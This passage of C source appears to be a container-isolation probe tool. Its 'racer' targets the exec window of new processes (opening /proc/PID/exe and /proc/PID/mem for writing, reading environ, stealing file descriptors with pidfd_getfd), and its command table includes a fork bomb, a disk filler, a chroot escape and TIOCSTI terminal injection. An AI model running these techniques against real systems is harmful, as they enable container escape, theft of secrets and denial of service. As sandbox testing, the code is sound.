/* Detach (double fork, own session) and keep writing to PATH and to the inherited
 * stdout for SECONDS: the "writer outlives the exec" attack. */
static int cmd_writer(int argc, char **argv)
{
    double seconds = argc > 2 ? atof(argv[2]) : 30;
    pid_t pid = fork();
    if (pid < 0)
        return fail("fork: %s", strerror(errno));
    if (pid > 0) {
        int status;
        waitpid(pid, &status, 0);
        return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
    }
    setsid();
    int ready[2];
    if (pipe(ready) < 0)
        _exit(fail("pipe: %s", strerror(errno)));
    pid = fork();
    if (pid < 0)
        _exit(fail("fork: %s", strerror(errno)));
    if (pid > 0) {
        char c;
        close(ready[1]);
        if (read(ready[0], &c, 1) != 1) {}
        _exit(0);
    }
    close(ready[0]);
    signal(SIGPIPE, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    int fd = strcmp(argv[1], "-") ? open(argv[1], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644) : -1;
    out("%s=ok pid=%d\n", current, getpid());
    if (write(ready[1], "x", 1) < 0) {}
    close(ready[1]);
    char line[1024];
    memset(line, 'w', sizeof line);
    line[sizeof line - 1] = '\n';
    double end = now() + seconds;
    for (unsigned long tick = 0; now() < end; tick++) {
        int n = snprintf(line, sizeof line, "writer tick=%lu ", tick);
        line[n] = 'w';
        int to_file = fd >= 0 ? write(fd, line, sizeof line) : -1;
        int to_stdout = write(1, line, sizeof line);
        if (to_file < 0 && to_stdout < 0)
            break; /* nowhere left to write */
        sleep_seconds(0.01);
    }
    _exit(0);
}

/* ---- racer: the exec attack of issue 12, point 1 ----
 * Spins on ns_last_pid and scans /proc; for every young process that is not
 * ours it tries, repeatedly while the process is young: /proc/PID/exe for
 * writing and reading, /proc/PID/environ (for --marker), pidfd_getfd() on
 * fds 0..63 and opening the entries of /proc/PID/fd.  One JSON line per finding.  Each
 * finding says what the process ran then: "container" (the very file its path names in
 * our root), "host" (a file we cannot reach: the exec's host side) or "hidden" (we may
 * not look).  The summary's host_exe and host_fds count what was seen outside
 * "container": with a sound exec path both are 0, like exe_write and environ. */

enum { MAX_TARGETS = 64, MAX_FD = 64, YOUNG_MS = 250 };

struct target {
    pid_t pid;
    double first_seen;
    char fd_target[MAX_FD][64]; /* last reported target of each fd (both methods) */
    char exes[4][256];
    int nexes;
    int environ_reported;
    int mem_reported;
};

static struct {
    const char *marker;
    long seen, exe_write, exe_read, environ, fds, host_exe, host_fds;
    unsigned char *reported; /* bitmap of pids already taken as targets */
    long pid_max;
    struct target targets[MAX_TARGETS];
} racer;

/* JSON string contents: \u00NN for quotes, backslashes, control and non-ASCII bytes. */
static void json_string(char *dst, size_t cap, const char *s)
{
    size_t o = 0;
    for (; *s && o + 7 < cap; s++) {
        unsigned char c = *s;
        if (c >= 0x20 && c < 0x7f && c != '\\' && c != '"')
            dst[o++] = c;
        else
            o += snprintf(dst + o, cap - o, "\\u%04x", c);
    }
    dst[o] = 0;
}

/* Where the exe of PID lives: "container" when the file it names in our root is the
 * very file the process runs, "host" otherwise, "hidden" if we may not look. */
static const char *exe_where(pid_t pid, char *path, size_t cap, int *readable, int *writable)
{
    char link[64];
    snprintf(link, sizeof link, "/proc/%d/exe", pid);
    /* Open for writing proves the CVE-2019-5736 hole; never write a byte. */
    int wfd = open(link, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
    *writable = wfd >= 0;
    if (wfd >= 0)
        close(wfd);
    /* The same name before and after the open: no execve in between, so the
     * opened file is the one the name stands for. */
    for (int attempt = 0; attempt < 4; attempt++) {
        char after[256];
        ssize_t n = readlink(link, path, cap - 1);
        path[n < 0 ? 0 : n] = 0;
        int fd = open(link, O_RDONLY | O_CLOEXEC);
        ssize_t m = readlink(link, after, sizeof after - 1);
        after[m < 0 ? 0 : m] = 0;
        *readable = fd >= 0;
        if (fd >= 0 && strcmp(path, after)) {
            close(fd);
            continue;
        }
        if (fd < 0)
            return "hidden";
        struct stat running, named;
        int same = fstat(fd, &running) == 0 && stat(path, &named) == 0 && running.st_dev == named.st_dev &&
                   running.st_ino == named.st_ino;
        close(fd);
        return same ? "container" : "host";
    }
    return "hidden";
}

static void finding_fd(struct target *t, const char *where, const char *via, int fd, const char *target)
{
    if (!strncmp(t->fd_target[fd], target, sizeof t->fd_target[fd] - 1))
        return;
    snprintf(t->fd_target[fd], sizeof t->fd_target[fd], "%s", target);
    char escaped[1024];
    json_string(escaped, sizeof escaped, target);
    out("{\"pid\":%d,\"kind\":\"fd\",\"via\":\"%s\",\"fd\":%d,\"target\":\"%s\",\"where\":\"%s\"}\n",
        t->pid, via, fd, escaped, where);
    racer.fds++;
    if (strcmp(where, "container")) /* taken before the process ran a file of ours: the exec window */
        racer.host_fds++;
}

static void steal_fds(struct target *t, const char *where)
{
    int pidfd = (int)syscall(SYS_pidfd_open, t->pid, 0);
    if (pidfd >= 0) {
        for (int fd = 0; fd <= MAX_FD - 1; fd++) {
            int stolen = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
            if (stolen < 0)
                continue;
            char link[64], target[256] = "";
            snprintf(link, sizeof link, "/proc/self/fd/%d", stolen);
            ssize_t n = readlink(link, target, sizeof target - 1);
            target[n < 0 ? 0 : n] = 0;
            close(stolen);
            finding_fd(t, where, "pidfd_getfd", fd, target);
        }
        close(pidfd);
    }
    char dir[64];
    snprintf(dir, sizeof dir, "/proc/%d/fd", t->pid);
    DIR *d = opendir(dir);
    for (struct dirent *e; d && (e = readdir(d));) {
        int fd = atoi(e->d_name);
        if (e->d_name[0] == '.' || fd >= MAX_FD)
            continue;
        char link[384], target[256] = "";
        snprintf(link, sizeof link, "%s/%s", dir, e->d_name);
        int opened = open(link, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
        if (opened < 0)
            continue;
        ssize_t n = readlink(link, target, sizeof target - 1);
        close(opened);
        if (n <= 0)
            continue; /* gone meanwhile */
        target[n] = 0;
        finding_fd(t, where, "proc", fd, target);
    }
    if (d)
        closedir(d);
}

static void read_environ(struct target *t, const char *where)
{
    if (!racer.marker || t->environ_reported)
        return;
    char path[64], env[65536];
    snprintf(path, sizeof path, "/proc/%d/environ", t->pid);
    ssize_t n = read_file(path, env, sizeof env);
    if (n <= 0 || !memmem(env, n, racer.marker, strlen(racer.marker)))
        return;
    t->environ_reported = 1;
    racer.environ++;
    out("{\"pid\":%d,\"kind\":\"environ\",\"marker\":true,\"where\":\"%s\"}\n", t->pid, where);
}

static void attack(struct target *t)
{
    char exe[256], escaped[1024];
    int readable, writable;
    const char *where = exe_where(t->pid, exe, sizeof exe, &readable, &writable);
    int known = 0;
    for (int i = 0; i < t->nexes; i++)
        known |= !strcmp(t->exes[i], exe);
    if (!known && t->nexes < 4 && (exe[0] || writable)) {
        snprintf(t->exes[t->nexes++], sizeof t->exes[0], "%s", exe);
        json_string(escaped, sizeof escaped, exe);
        out("{\"pid\":%d,\"kind\":\"exe\",\"exe\":\"%s\",\"read\":%s,\"write\":%s,\"where\":\"%s\"}\n",
            t->pid, escaped, readable ? "true" : "false", writable ? "true" : "false", where);
        racer.exe_write += writable;
        racer.exe_read += readable && strcmp(where, "container");
        racer.host_exe += !strcmp(where, "host");
    }
    read_environ(t, where);
    steal_fds(t, where);
    /* Its memory for writing: code of ours injected before the exec would run with the exec's privileges.
     * Where it was is looked at after the open (still hidden then: it was so at the open), as the kernel
     * checks access and takes the memory at once, under the lock an exec takes. */
    char mem[64];
    snprintf(mem, sizeof mem, "/proc/%d/mem", t->pid);
    int fd = t->mem_reported ? -1 : open(mem, O_RDWR | O_CLOEXEC);
    if (fd >= 0) {
        close(fd);
        t->mem_reported = 1;
        where = exe_where(t->pid, exe, sizeof exe, &readable, &writable);
        char stat[512], *close_paren = NULL;
        snprintf(mem, sizeof mem, "/proc/%d/stat", t->pid);
        if (read_file(mem, stat, sizeof stat) > 0)
            close_paren = strrchr(stat, ')');
        if (!strcmp(where, "hidden") && !(close_paren && close_paren[1] == ' ' && !strchr("ZX", close_paren[2])))
            return; /* gone meanwhile: its exe says nothing of when we opened it */
        out("{\"pid\":%d,\"kind\":\"mem\",\"write\":true,\"where\":\"%s\"}\n", t->pid, where);
    }
}

static int is_ours(pid_t pid)
{
    char path[64], stat[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    if (read_file(path, stat, sizeof stat) <= 0)
        return 0;
    char *close_paren = strrchr(stat, ')');
    int ppid = 0;
    return close_paren && sscanf(close_paren + 2, "%*c %d", &ppid) == 1 && ppid == getpid();
}

static void add_target(pid_t pid)
{
    if (pid <= 1 || pid == getpid() || pid >= racer.pid_max || racer.reported[pid / 8] & (1 << pid % 8))
        return;
    if (is_ours(pid))
        return;
    racer.reported[pid / 8] |= 1 << pid % 8;
    racer.seen++;
    for (int i = 0; i < MAX_TARGETS; i++) {
        if (!racer.targets[i].pid) {
            memset(&racer.targets[i], 0, sizeof racer.targets[i]);
            racer.targets[i].pid = pid;
            racer.targets[i].first_seen = now();
            attack(&racer.targets[i]);
            return;
        }
    }
}

static void scan_proc(void)
{
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));)
        if (isdigit((unsigned char)e->d_name[0]))
            add_target(atoi(e->d_name));
    if (d)
        closedir(d);
}

/* Processes that were here before we started are not new: mark them seen quietly. */
static void mark_existing(void)
{
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));) {
        int pid = atoi(e->d_name);
        if (pid > 0 && pid < racer.pid_max)
            racer.reported[pid / 8] |= 1 << pid % 8;
    }
    if (d)
        closedir(d);
}

static long read_last_pid(int fd)
{
    char buf[32];
    ssize_t n = fd >= 0 ? pread(fd, buf, sizeof buf - 1, 0) : -1;
    if (n <= 0)
        return -1;
    buf[n] = 0;
    return atol(buf);
}

/* The racers' common start: every pid there now is marked seen; the fd of ns_last_pid to poll. */
static int racer_start(void)
{
    char buf[32];
    racer.pid_max = read_file("/proc/sys/kernel/pid_max", buf, sizeof buf) > 0 ? atol(buf) + 1 : 4194305;
    racer.reported = calloc(racer.pid_max / 8 + 1, 1);
    mark_existing();
    return open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
}

static int cmd_racer(int argc, char **argv)
{
    double seconds = atof(argv[1]);
    for (int i = 2; i < argc; i++) {
        if (!strcmp(argv[i], "--marker") && i + 1 < argc)
            racer.marker = argv[++i];
        else
            return fail("usage: racer SECONDS [--marker TEXT]"), USAGE_ERROR;
    }
    int last_pid_fd = racer_start();
    long last = read_last_pid(last_pid_fd);
    out("%s=ready pid=%d ns_last_pid=%ld\n", current, getpid(), last);
    double end = now() + seconds, next_scan = 0;
    while (now() < end) {
        long current = read_last_pid(last_pid_fd);
        if (current > last) {
            for (long pid = last + 1; pid <= current; pid++)
                add_target((pid_t)pid);
        }
        if (current != last || now() >= next_scan) {
            last = current;
            scan_proc(); /* catches a wrapped counter or a missing ns_last_pid */
            next_scan = now() + 0.02;
        }
        /* Young processes are attacked again and again: the window is after fork, before exec. */
        for (int i = 0; i < MAX_TARGETS; i++) {
            struct target *t = &racer.targets[i];
            if (!t->pid)
                continue;
            if ((now() - t->first_seen) * 1000 > YOUNG_MS || kill(t->pid, 0) < 0)
                t->pid = 0;
            else
                attack(t);
        }
    }
    out("racer: seen=%ld exe_write=%ld environ=%ld fds=%ld host_exe=%ld host_fds=%ld exe_read=%ld\n",
        racer.seen, racer.exe_write, racer.environ, racer.fds, racer.host_exe, racer.host_fds, racer.exe_read);
    return 0;
}

/* stopper: what a hostile root in a container does to hold an exec in its window (after the
 * fork, before the command runs): SIGSTOP each process that appears in our pid namespace and
 * keep it stopped if it was caught there (its exe not ours to look at yet: the exec's own code;
 * `stopped=PID`), else let it go on (`released=PID`). Ends after COUNT (default 1) caught. */
/* Whether PID is stopped now (state T), waiting up to 100 ms: a stop is only taken on the way back to
 * user space (and one sent in the middle of an execve may be dropped). Until then, its exe may say
 * either. */
static int stopped_state(pid_t pid)
{
    char path[64], stat[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    for (double end = now() + 0.1; now() < end;) {
        char *close_paren = read_file(path, stat, sizeof stat) > 0 ? strrchr(stat, ')') : NULL;
        if (!close_paren)
            return 0;
        if (close_paren[1] == ' ' && close_paren[2] == 'T')
            return 1;
    }
    return 0;
}

static int cmd_stopper(int argc, char **argv)
{
    double seconds = atof(argv[1]);
    long count = argc > 2 ? atol(argv[2]) : 1, stopped = 0;
    int last_pid_fd = racer_start();
    long last = read_last_pid(last_pid_fd);
    /* Two spinners (one per core of a small host): one of them is running when the window opens. */
    pid_t twin = fork();
    if (twin == 0)
        count = 0x7fffffff; /* it stops what it can until the first one is done */
    else
        out("%s=ready pid=%d\n", current, getpid());
    pid_t spinner = twin > 0 ? twin : getpid(); /* neither takes the other for a newcomer */
    if (spinner > 0 && spinner < racer.pid_max)
        racer.reported[spinner / 8] |= 1 << spinner % 8;
    for (double end = now() + seconds; now() < end && stopped < count;) {
        long latest = read_last_pid(last_pid_fd);
        for (long pid = last + 1; pid <= latest && stopped < count; pid++) {
            if (pid >= racer.pid_max || racer.reported[pid / 8] & (1 << pid % 8))
                continue;
            racer.reported[pid / 8] |= 1 << pid % 8;
            if (kill((pid_t)pid, SIGSTOP) < 0 || !stopped_state((pid_t)pid))
                continue;
            char link[64], exe[256];
            snprintf(link, sizeof link, "/proc/%ld/exe", pid);
            if (readlink(link, exe, sizeof exe - 1) < 0) {
                out("stopped=%ld\n", pid);
                stopped++;
            } else {
                kill((pid_t)pid, SIGCONT);
                out("released=%ld\n", pid);
            }
        }
        last = latest > last ? latest : last;
        if (twin == 0 && getppid() == 1)
            _exit(0); /* the first one is gone */
    }
    if (twin > 0) {
        kill(twin, SIGKILL);
        waitpid(twin, NULL, 0);
    }
    return 0;
}

/* ---- dispatch ---- */

struct command {
    const char *name;
    int (*run)(int argc, char **argv);
    int min_args;
    const char *usage;
};

static const struct command commands[] = {
    {"true", cmd_true, 0, "exit 0"},
    {"false", cmd_false, 0, "exit 1"},
    {"echo", cmd_echo, 0, "ARGS...: print them"},
    {"sleep", cmd_sleep, 1, "SECONDS"},
    {"exit", cmd_exit, 1, "N [TEXT]: print TEXT, exit N"},
    {"isatty", cmd_isatty, 1, "FD: like test -t"},
    {"pid", cmd_pid, 0, "pid, ppid, session and process group"},
    {"hostname", cmd_hostname, 0, "uname's nodename"},
    {"env", cmd_env, 0, "the environment, one KEY=VALUE a line"},
    {"getenv", cmd_getenv, 1, "NAME: its value"},
    {"cat", cmd_cat, 1, "FILE"},
    {"write", cmd_write, 2, "FILE TEXT: create or truncate FILE with TEXT"},
    {"open", cmd_open, 2, "PATH r|w|rw: open (no truncation, nothing written)"},
    {"read", cmd_read, 1, "FILE: its first 4 KiB on one line, escaped"},
    {"readlink", cmd_readlink, 1, "PATH"},
    {"ls", cmd_ls, 1, "DIR: sorted names on one line"},
    {"stat", cmd_stat, 1, "PATH: lstat"},
    {"caps", cmd_caps, 0, "CapEff, CapBnd, NoNewPrivs, Seccomp, ... from /proc/self/status"},
    {"uid", cmd_uid, 0, "uids, gids and groups"},
    {"memhog", cmd_memhog, 1, "MB: allocate and touch, 1 MB at a time"},
    {"forkbomb", cmd_forkbomb, 1, "N [HOLD_SECONDS]: fork N sleeping children"},
    {"fill", cmd_fill, 2, "PATH MB: write until MB or an error (EDQUOT, ENOSPC)"},
    {"tmpfill", cmd_tmpfill, 1, "MB [DIR]: fill DIR/probe-fill-PID (default /tmp)"},
    {"io_uring", cmd_io_uring, 0, "io_uring_setup"},
    {"aio", cmd_aio, 0, "io_setup of the host's whole fs.aio-max-nr"},
    {"ptys", cmd_ptys, 0, "[HOLD_SECONDS]: open /dev/ptmx until refused, say how many, hold them"},
    {"mknod", cmd_mknod, 4, "PATH b|c MAJOR MINOR"},
    {"btrfs-subvol", cmd_btrfs_subvol, 2, "DIR NAME: BTRFS_IOC_SUBVOL_CREATE (v1 and v2)"},
    {"btrfs-snap", cmd_btrfs_snap, 3, "SRC DIR NAME: BTRFS_IOC_SNAP_CREATE (v1 and v2)"},
    {"chroot-escape", cmd_chroot_escape, 1, "PATH: chroot out of a chroot, then look for PATH"},
    {"mount-test", cmd_mount_test, 0, "[DIR]: mount a tmpfs"},
    {"unshare-user", cmd_unshare_user, 0, "unshare(CLONE_NEWUSER), then a mount namespace in it"},
    {"connect", cmd_connect, 2, "IP PORT [SEND]: TCP connect (3 s timeout), print what is read"},
    {"serve", cmd_serve, 2, "PORT TEXT [COUNT]: answer each TCP connection with TEXT, close"},
    {"udp-send", cmd_udp_send, 3, "IP PORT TEXT"},
    {"kill0", cmd_kill0, 1, "SIG: kill(0, SIG), our whole process group"},
    {"tiocsti", cmd_tiocsti, 1, "TEXT: push TEXT (\\n, \\r understood) into fd 0's terminal input"},
    {"setsid-check", cmd_setsid_check, 0, "own session and process group? controlling tty?"},
    {"signals", cmd_signals, 1, "LOG [IGNORE]: comma lists (or -); print signal=NAME, run forever"},
    {"ticker", cmd_ticker, 1, "FILE [CHILDREN]: sleeping children, a counter in FILE every 20 ms"},
    {"writer", cmd_writer, 1, "PATH|- [SECONDS]: detach and keep writing to PATH and stdout"},
    {"stopper", cmd_stopper, 1, "SECONDS [COUNT]: SIGSTOP new processes caught before their exec, COUNT (1) of them"},
    {"racer", cmd_racer, 1, "SECONDS [--marker TEXT]: the exec race (issue 12)"},
};

static int usage(void)
{
    dprintf(2, "usage: probe [LABEL=] SUBCOMMAND ARGS... [\\; | && [LABEL=] SUBCOMMAND ARGS...]...\n");
    for (size_t i = 0; i < sizeof commands / sizeof *commands; i++)
        dprintf(2, "  %-13s %s\n", commands[i].name, commands[i].usage);
    return USAGE_ERROR;
}

/* A first word "LABEL=" names the result: `sysrq= open /proc/sysrq-trigger w` prints sysrq=EROFS. */
static int run_one(int argc, char **argv)
{
    const char *label = NULL;
    size_t len = strlen(argv[0]);
    if (len > 1 && argv[0][len - 1] == '=') {
        argv[0][len - 1] = 0;
        label = argv[0];
        argv++, argc--;
        if (argc == 0)
            return usage();
    }
    for (size_t i = 0; i < sizeof commands / sizeof *commands; i++) {
        if (strcmp(commands[i].name, argv[0]))
            continue;
        current = label ? label : argv[0];
        if (argc - 1 < commands[i].min_args)
            return fail("usage: probe %s %s", argv[0], commands[i].usage), USAGE_ERROR;
        return commands[i].run(argc, argv);
    }
    dprintf(2, "probe: unknown subcommand %s\n", argv[0]);
    return usage();
}

static int is_separator(const char *word)
{
    return !strcmp(word, ";") || !strcmp(word, "&&");
}

int main(int argc, char **argv)
{
    /* Called by the name of a subcommand (a symlink bin/sleep -> probe), run it. */
    const char *self = strrchr(argv[0], '/') ? strrchr(argv[0], '/') + 1 : argv[0];
    for (size_t i = 0; i < sizeof commands / sizeof *commands; i++) {
        if (!strcmp(self, commands[i].name)) {
            argv[0] = (char *)self;
            return run_one(argc, argv);
        }
    }
    if (argc < 2)
        return usage();
    /* A shell-free script for a service's --exec: "a ; b" runs both, "a && b" runs b
     * only if a succeeded; the status is the last one run, as in sh. */
    int status = 0;
    const char *before = ";";
    for (int start = 1; start < argc;) {
        int end = start;
        while (end < argc && !is_separator(argv[end]))
            end++;
        const char *after = end < argc ? argv[end] : ";";
        argv[end] = NULL;
        if (end > start && (strcmp(before, "&&") || status == 0))
            status = run_one(end - start, argv + start);
        before = after;
        start = end + 1;
    }
    return status;
}
